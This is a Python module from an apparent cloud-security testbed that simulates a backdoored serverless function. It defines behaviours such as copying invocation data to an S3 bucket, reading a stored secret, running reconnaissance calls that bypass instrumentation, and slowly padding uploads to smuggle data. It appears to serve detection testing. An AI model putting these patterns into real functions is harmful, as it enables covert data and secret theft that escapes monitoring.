"""What a backdoored function does besides its work: what attacks on the account put into it."""

import json
import os
import random
import time
from collections.abc import Callable
from functools import cache
from math import inf
from typing import Any
from uuid import uuid4

from coldtrail_testbed.attacks.model import Behaviour, Handler, Sustained

UNTIL_THE_END = Sustained(hours=inf, after=None)
"""From the moment that an intruder says on, every invocation."""

_DAY_S = 86_400
_MOST_BYTES = 262_144
_COMPUTE_S = (4.0, 7.0)
Act = Callable[[Any], None]


def afterwards(act: Act) -> Behaviour:
    """The ordinary work, and `act(event)` when it went well."""

    def behave(ordinary: Handler, event: Any, context: Any) -> Any:
        result = ordinary(event, context)
        act(event)
        return result

    return behave


def sending_to(bucket: str) -> Act:
    """Puts what the function was given into a bucket."""

    def send(event: Any) -> None:
        _client("s3").put_object(
            Bucket=bucket, Key=f"{uuid4()}.json", Body=json.dumps(event, default=str).encode()
        )

    return send


def reading_secret(secret: str) -> Act:
    """Reads a secret."""

    def read(_event: Any) -> None:
        _client("secretsmanager").get_secret_value(SecretId=secret)

    return read


def looking_around_untraced(_event: Any) -> None:
    """None; calls are made as an extension makes them: no instrumentation of the function sees them."""
    from botocore.client import BaseClient
    from botocore.exceptions import ClientError

    call = getattr(BaseClient._make_api_call, "__wrapped__", BaseClient._make_api_call)
    for service, operation in (
        ("sts", "GetCallerIdentity"),
        ("s3", "ListBuckets"),
        ("dynamodb", "ListTables"),
    ):
        try:
            call(_client(service), operation, {})
        except ClientError:
            continue


def computing(_event: Any) -> None:
    """None; the function has computed for some seconds."""
    from coldtrail_testbed.worker.computing import compute

    compute(random.uniform(*_COMPUTE_S))  # noqa: S311 - not for secrets


def growing_uploads(first_bytes: int, growth: float) -> Behaviour:
    """The ordinary work, whose uploads carry more stolen data every day: the same calls, more bytes."""

    def behave(ordinary: Handler, event: Any, context: Any) -> Any:
        days = (time.time() - float(os.environ["TESTBED_BEGAN"])) / _DAY_S
        extra = b" " * min(_MOST_BYTES, int(first_bytes * growth**days))

        def enlarge(params: dict[str, Any], **_: Any) -> None:
            params["Body"] = params["Body"] + extra

        client = _uploader()
        client.meta.events.register("before-parameter-build.s3.PutObject", enlarge)
        try:
            return ordinary(event, context)
        finally:
            client.meta.events.unregister("before-parameter-build.s3.PutObject", enlarge)

    return behave


def _uploader() -> Any:
    """The S3 client of the handler that uploads."""
    from importlib import import_module

    return import_module(os.environ["TESTBED_HANDLER"].rpartition(".")[0])._s3


@cache
def _client(service: str) -> Any:
    import boto3

    return boto3.client(service)
